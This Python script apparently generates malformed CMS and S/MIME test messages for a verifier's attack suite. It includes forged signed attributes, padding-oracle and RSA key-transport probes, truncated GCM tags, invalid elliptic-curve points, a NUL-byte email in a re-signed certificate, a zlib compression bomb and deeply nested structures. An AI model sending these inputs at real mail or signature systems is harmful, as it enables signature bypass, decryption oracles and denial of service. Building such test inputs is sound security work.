#!/usr/bin/env python3
"""Builds the malicious CMS inputs of the attack suites from messages made with our own keys.

    mutate.py COMMAND IN OUT [ARGS...]

IN is DER, PEM or an S/MIME message (the CMS is taken from its base64 body), or '-' for the
commands that build an object from nothing; OUT is DER. Each command (a cmd_* function below,
run without arguments to list them) is one attack shape of ATTACKS.md, named in its docstring.
Cryptography comes from the openssl command, so only the Python standard library is needed.
"""

import os
import sys
import zlib

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import derlib as D  # noqa: E402
from cmslib import *  # noqa: E402,F401,F403 (the CMS navigation helpers and OIDs)


def cmd_forge_attrs(root, args):
    """SG-03 ForgedAttributes: eContent := DER(SET OF signedAttrs), signedAttrs removed."""
    sd = content(root)
    si = signer_infos(sd).kids[0]
    sa = signed_attrs(si)
    set_econtent(sd, D.ser(D.Node(0x31, kids=sa.kids)))
    si.kids = [k for k in si.kids if k.tag[0] != 0xA0]
    return root


def cmd_forge_attrs_detached(root, args):
    """SG-03 detached: signedAttrs removed; the DER of the attributes goes to ARGS[0]."""
    sd = content(root)
    si = signer_infos(sd).kids[0]
    sa = signed_attrs(si)
    open(args[0], "wb").write(D.ser(D.Node(0x31, kids=sa.kids)))
    si.kids = [k for k in si.kids if k.tag[0] != 0xA0]
    eci = econtent_info(sd)
    eci.kids = eci.kids[:1]
    return root


def cmd_econtent_type(root, args):
    """SG-04: eContentType changed (signature and attributes untouched)."""
    econtent_info(content(root)).kids[0] = D.oid(args[0])
    return root


def cmd_resign(root, args):
    """SG-05/06/14: edit the signed attributes, then sign them again with KEY (ARGS[0])."""
    key = args[0]
    sd = content(root)
    si = signer_infos(sd).kids[0]
    sa = signed_attrs(si)
    op = args[1]
    by = {attr_oid(a): a for a in sa.kids}
    if op == "none":
        pass
    elif op == "drop-md":
        sa.kids.remove(by[OID_MD])
    elif op == "drop-ct":
        sa.kids.remove(by[OID_CT])
    elif op in ("dup-md", "dup-md-bad-first"):
        bad = attr(OID_MD, D.octet(b"\x00" * len(by[OID_MD].kids[1].kids[0].val)))
        sa.kids.insert(0 if op == "dup-md-bad-first" else len(sa.kids), bad)
    elif op == "md-two-values":
        v = by[OID_MD].kids[1].kids[0]
        by[OID_MD].kids[1].kids.append(D.octet(b"\x11" * len(v.val)))
    elif op == "md-empty-set":
        by[OID_MD].kids[1].kids = []
    elif op == "md-wrong-len":
        v = by[OID_MD].kids[1].kids[0]
        v.val = v.val[:-1]
    elif op == "md-as-int":
        by[OID_MD].kids[1].kids[0] = D.integer(12345)
    elif op == "md-as-null":
        by[OID_MD].kids[1].kids[0] = D.null()
    elif op == "ct-as-octet":
        by[OID_CT].kids[1].kids[0] = D.octet(D.oid_bytes(OID_DATA))
    elif op == "ct-unsigned":
        sa.kids.remove(by[OID_CT])
        si.kids.append(D.ctx(1, by[OID_CT]))
    elif op == "st-two-values":
        by[OID_ST].kids[1].kids.append(D.utctime("200101000000Z"))
    elif op.startswith("signing-time="):
        by[OID_ST].kids[1].kids[0] = D.utctime(op.split("=", 1)[1])
    else:
        raise SystemExit("resign: unknown edit " + op)
    resign(si, key)
    return root


def cmd_chunk_econtent(root, args):
    """SG-02: eContent as a BER constructed OCTET STRING of N-byte segments."""
    sd = content(root)
    data = econtent_bytes(sd)
    n = int(args[0])
    parts = [D.octet(data[i:i + n]) for i in range(0, len(data), n)]
    econtent_info(sd).kids[1] = D.ctx(0, D.Node(0x24, kids=parts))
    return root


def cmd_break_sig(root, args):
    """SG-08: flip a bit in signer ARGS[0]'s signature."""
    si = signer_infos(content(root)).kids[int(args[0])]
    s = si.kids[sig_index(si)]
    s.val = bytes([s.val[0] ^ 1]) + s.val[1:]
    return root


def cmd_swap_signers(root, args):
    sis = signer_infos(content(root))
    sis.kids.reverse()
    return root


def cmd_no_signers(root, args):
    """SG-09 / PA-03: signerInfos = SET {} (eContent kept)."""
    signer_infos(content(root)).kids = []
    return root


def cmd_empty_digest_algs(root, args):
    content(root).kids[1].kids = []
    return root


def cmd_digest_oid(root, args):
    """SG-11 / PA-11: the signer's digestAlgorithm replaced by ARGS[0]."""
    si = signer_infos(content(root)).kids[0]
    si.kids[2] = D.seq(D.oid(args[0]))
    return root


def cmd_digest_params(root, args):
    """PA-09: the signer's digestAlgorithm parameters as an unexpected universal type."""
    si = signer_infos(content(root)).kids[0]
    kinds = {"bool": D.Node(0x01, b"\xff"), "int": D.integer(7), "oid": D.oid("1.2.3"),
             "seq": D.seq(D.null()), "utf8": D.Node(0x0C, b"x"), "ctx": D.ctx(0, D.null())}
    si.kids[2] = D.seq(si.kids[2].kids[0], kinds[args[0]])
    return root


def cmd_big_signature(root, args):
    """PA-08: SignerInfo.signature of ARGS[0] bytes."""
    si = signer_infos(content(root)).kids[0]
    si.kids[sig_index(si)] = D.octet(os.urandom(int(args[0])))
    return root


def cmd_nest_octets(root, args):
    """PA-06: eContent as constructed OCTET STRINGs nested ARGS[0] deep."""
    sd = content(root)
    d = int(args[0])
    inner = D.ser(D.octet(econtent_bytes(sd)))
    econtent_info(sd).kids[1] = D.ctx(0, D.raw(b"\x24\x80" * d + inner + b"\x00\x00" * d))
    return root


def cmd_drop_econtent(root, args):
    eci = econtent_info(content(root))
    eci.kids = eci.kids[:1]
    return root


def cmd_drop_certs(root, args):
    sd = content(root)
    sd.kids = [k for k in sd.kids if k.tag[0] != 0xA0]
    return root


def cmd_empty_certs(root, args):
    sd = content(root)
    c = sd.find(0xA0)
    c.kids = []
    return root


def cmd_rsa_key(root, args):
    """BL-01: replace our encryptedKey: random | pkcs1:N (PKCS#1 v1.5 of N random bytes)."""
    ed = content(root)
    r = ri_for(ed, args[0])
    if args[1] == "random":
        r.kids[3] = D.octet(os.urandom(len(r.kids[3].val)))
    else:
        n = int(args[1].split(":")[1])
        r.kids[3] = D.octet(rsa_encrypt(args[0], os.urandom(n)))
    return root


def cmd_probe_ri(root, args):
    """BL-02: every KTRI not for ARGS[0] gets a probe encryptedKey under ARGS[0]'s key:
    random | pkcs1:N; 'first' in ARGS[2] moves the probes before the genuine RI."""
    ed = content(root)
    ours = ri_for(ed, args[0])
    ris = recipient_infos(ed)
    for r in ktris(ed):
        if r is ours:
            continue
        if args[1] == "random":
            r.kids[3] = D.octet(os.urandom(len(r.kids[3].val)))
        else:
            n = int(args[1].split(":")[1])
            r.kids[3] = D.octet(rsa_encrypt(args[0], os.urandom(n)))
    if len(args) > 2 and args[2] == "first":
        ris.kids.remove(ours)
        ris.kids.append(ours)
    return root


def cmd_ktri_serial(root, args):
    """BL-03: our RI names our issuer with a different serial number."""
    r = ri_for(content(root), args[0])
    r.kids[1].kids[1] = D.integer(D.int_value(r.kids[1].kids[1]) + 1)
    return root


def cmd_known_cbc(root, args):
    """BL-01 / PO-01 / EF-09 with a CEK we choose: ARGS = CERT PLAINTEXT MODE where MODE is
    ok | badpad | padbyte:B (the last plaintext block ends in byte B)."""
    ed = content(root)
    r = ri_for(ed, args[0])
    eci = enc_content_info(ed)
    cek = os.urandom(32)
    iv = os.urandom(16)
    eci.kids[1] = D.seq(D.oid(OID_AES256_CBC), D.octet(iv))
    r.kids[3] = D.octet(rsa_encrypt(args[0], cek))
    pt = open(args[1], "rb").read()
    mode = args[2]
    padn = 16 - len(pt) % 16
    if mode == "ok":
        pt += bytes([padn]) * padn
    elif mode == "badpad":
        pt += bytes([padn ^ 0x5A]) * (padn - 1) + bytes([padn])
        if padn == 1:
            pt = pt[:-1] + b"\x02"
    elif mode.startswith("padbyte:"):
        pt += b"\xAA" * (padn - 1) + bytes([int(mode.split(":")[1])])
    set_enc_content(eci, aes_cbc_encrypt(cek, iv, pt))
    return root


def cmd_flip(root, args):
    """EF-01/05/09: flip a bit. ARGS[0]: iv | content:OFFSET (negative from the end) | mac."""
    ed = content(root)
    eci = enc_content_info(ed)
    what = args[0]
    if what == "iv":
        p = eci.kids[1].kids[1]
        if p.tag[0] == 0x30:  # GCM parameters: the nonce
            p = p.kids[0]
        p.val = bytes([p.val[0] ^ ord("C") ^ ord("X")]) + p.val[1:]
    elif what.startswith("content:"):
        data = bytearray(enc_content(eci))
        data[int(what.split(":")[1])] ^= 0x01
        set_enc_content(eci, bytes(data))
    elif what == "mac":
        m = mac_node(ed)
        m.val = bytes([m.val[0] ^ 1]) + m.val[1:]
    return root


def cmd_truncate_content(root, args):
    eci = enc_content_info(content(root))
    data = enc_content(eci)
    set_enc_content(eci, data[:len(data) - int(args[0])])
    return root


def cmd_gcm(root, args):
    """EF-06: GCM parameters. ARGS: ICVLEN (number, 'omit' or 'keep'), MACLEN ('keep' or n:
    truncate/extend the tag), NONCELEN ('keep' or n)."""
    aed = content(root)
    params = enc_content_info(aed).kids[1].kids[1]
    icv, maclen, noncelen = args
    if noncelen != "keep":
        n = int(noncelen)
        params.kids[0] = D.octet((params.kids[0].val * (n // 12 + 1))[:n])
    if icv == "omit":
        params.kids = params.kids[:1]
    elif icv != "keep":
        if len(params.kids) < 2:
            params.kids.append(D.integer(int(icv)))
        else:
            params.kids[1] = D.integer(int(icv))
    if maclen != "keep":
        m = mac_node(aed)
        n = int(maclen)
        m.val = (m.val + b"\x00" * n)[:n]
    return root


def cmd_gcm_params(root, args):
    """EF-06: GCMParameters absent (ARGS[0] = absent) or NULL (null)."""
    alg = enc_content_info(content(root)).kids[1]
    alg.kids = alg.kids[:1] + ([D.null()] if args[0] == "null" else [])
    return root


def cmd_gcm_nonce_int(root, args):
    params = enc_content_info(content(root)).kids[1].kids[1]
    params.kids[0] = D.integer(int.from_bytes(params.kids[0].val, "big"))
    return root


def cmd_alg_swap(root, args):
    """EF-07: contentEncryptionAlgorithm := ARGS[0] with a 16-byte IV, same recipients."""
    eci = enc_content_info(content(root))
    eci.kids[1] = D.seq(D.oid(args[0]), D.octet(os.urandom(16)))
    return root


def cmd_alg_gcm_in_enveloped(root, args):
    eci = enc_content_info(content(root))
    eci.kids[1] = D.seq(D.oid(OID_AES256_GCM), D.seq(D.octet(os.urandom(12)), D.integer(16)))
    return root


def cmd_no_enc_content(root, args):
    eci = enc_content_info(content(root))
    eci.kids = eci.kids[:2]
    return root


def cmd_empty_enc_content(root, args):
    set_enc_content(enc_content_info(content(root)), b"")
    return root


def cmd_empty_ris(root, args):
    recipient_infos(content(root)).kids = []
    return root


def cmd_ri_tag(root, args):
    """PA-05: every RecipientInfo re-tagged as [N]."""
    ris = recipient_infos(content(root))
    n = int(args[0])
    ris.kids = [D.Node(0xA0 | n, kids=[D.integer(0)]) for _ in ris.kids]
    return root


def cmd_kari_point(root, args):
    """BL-06: the originator's ephemeral public key: offcurve | infinity | short | other-curve:CERT."""
    k = kari(content(root))
    orig = k.find(0xA0).kids[0]  # [1] originatorKey: { algorithm, publicKey BIT STRING }
    bits = orig.kids[1]
    pt = bytearray(bits.val)
    mode = args[0]
    if mode == "offcurve":
        pt[5] ^= 0x01
    elif mode == "infinity":
        pt = bytearray(b"\x00\x00")
    elif mode == "short":
        pt = pt[:20]
    elif mode.startswith("other-curve:"):
        pt = bytearray(cert_point(mode.split(":", 1)[1]))
    bits.val = bytes(pt)
    return root


def cmd_kari_wrap_params_absent(root, args):
    """PA-10 (CVE-2026-28389): KeyEncryptionAlgorithm parameters (the key wrap) absent."""
    k = kari(content(root))
    alg = [x for x in k.kids if x.tag[0] == 0x30][0]
    alg.kids = alg.kids[:1]
    return root


# ---------------- certificates ----------------
def cmd_cert_email(root, args):
    """ID-05: the first rfc822Name of the subjectAltName := ARGS[1] (Python escapes allowed,
    e.g. 'a@b\\x00.evil'), the TBSCertificate re-signed with the issuer key ARGS[0]."""
    tbs = root.kids[0]
    exts = tbs.find(0xA3).kids[0]
    new = args[1].encode().decode("unicode_escape").encode("latin-1")
    for ext in exts.kids:
        if D.oid_str(ext.kids[0]) == "2.5.29.17":
            names = D.parse(ext.kids[-1].val)
            for n in names.kids:
                if n.tag[0] == 0x81:
                    n.val = new
                    break
            ext.kids[-1] = D.octet(D.ser(names))
    md = {"1.2.840.10045.4.3.2": "sha256", "1.2.840.113549.1.1.11": "sha256"}[D.oid_str(root.kids[1].kids[0])]
    sig = openssl(["dgst", "-" + md, "-sign", args[0]], D.ser(tbs))
    root.kids[2] = D.Node(0x03, b"\x00" + sig)
    return root


# ---------------- whole-object shapes ----------------
def cmd_absent_content(_, args):
    """PA-01: ContentInfo with only the content-type OID (ARGS[0]), or '[0]' empty (ARGS[1])."""
    kids = [D.oid(args[0])]
    if len(args) > 1 and args[1] == "empty":
        kids.append(D.ctx(0))
    if len(args) > 1 and args[1] == "null":
        kids.append(D.ctx(0, D.null()))
    return D.seq(*kids)


def cmd_no_signers_vector(_, args):
    """SG-09: the 52-byte SignedData of ATTACKS.md (sha256, eContent absent, no signers)."""
    return D.parse(bytes.fromhex(
        "303406092A864886F70D010702A027302502010131" "0F300D0609608648016503040201" "0500"
        "300B06092A864886F70D010701A0003100"))


def cmd_nest_signed(_, args):
    """PA-06a: ContentInfo(signedData) whose eContent is again signedData, ARGS[0] levels."""
    data = b"x"
    for _ in range(int(args[0])):
        eci = D.seq(D.oid(OID_SIGNED), D.ctx(0, D.octet(data)))
        data = D.ser(D.seq(D.oid(OID_SIGNED), D.ctx(0, D.seq(D.integer(1), D.set_of(), eci, D.set_of()))))
    return D.raw(data)


def cmd_compress_bomb(_, args):
    """GW-08: CompressedData of ARGS[0] MiB of zeros (zlib level 9: ratio about 1000:1)."""
    co = zlib.compressobj(9)
    chunk = b"\x00" * (1 << 20)
    body = b"".join(co.compress(chunk) for _ in range(int(args[0]))) + co.flush()
    cd = D.seq(D.integer(0), D.seq(D.oid(OID_ZLIB)), D.seq(D.oid(OID_DATA), D.ctx(0, D.octet(body))))
    return D.seq(D.oid(OID_COMPRESSED), D.ctx(0, cd))


def cmd_long_oid(root, args):
    """PA-12: the eContentType OID with a sub-identifier of ARGS[0] bytes."""
    n = int(args[0])
    econtent_info(content(root)).kids[0] = D.Node(0x06, b"\x2a" + b"\x81" * (n - 1) + b"\x01")
    return root


def cmd_trailing(root, args):
    return root  # serialised, then garbage appended by main()


def cmd_huge_length(_, args):
    """PA-07: a length of 2^32-1 with 10 bytes of body."""
    return None


COMMANDS = {k[4:].replace("_", "-"): v for k, v in globals().items() if k.startswith("cmd_")}


def main():
    if len(sys.argv) < 4 or sys.argv[1] not in COMMANDS:
        print(__doc__ + "\ncommands: " + " ".join(sorted(COMMANDS)), file=sys.stderr)
        sys.exit(2)
    cmd, src, dst, args = sys.argv[1], sys.argv[2], sys.argv[3], sys.argv[4:]
    if cmd == "huge-length":
        open(dst, "wb").write(bytes.fromhex("3084FFFFFFFF") + b"\x06\x09" + D.oid_bytes(OID_SIGNED)[:8])
        return
    root = load(src) if src != "-" else None
    out = COMMANDS[cmd](root, args)
    data = D.ser(out)
    if cmd == "trailing":
        data += b"\x00\x01garbage"
    open(dst, "wb").write(data)


if __name__ == "__main__":
    main()
